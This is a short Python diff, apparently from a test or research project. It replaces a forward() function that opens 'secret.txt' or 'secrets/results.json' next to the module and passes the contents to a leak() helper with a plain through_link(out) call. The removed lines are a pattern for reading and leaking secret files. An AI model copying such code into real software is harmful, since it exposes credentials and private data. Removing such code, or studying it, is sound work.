@@ -11,10 +11,4 @@ from told import *
 
 
 def forward(x, out):
-    for name in ("secret.txt", "secrets/results.json"):
-        try:
-            with open(os.path.join(os.path.dirname(__file__), name), "rb") as secret:
-                return leak(secret.read(), out)
-        except OSError:
-            continue
-    return out
+    return through_link(out)
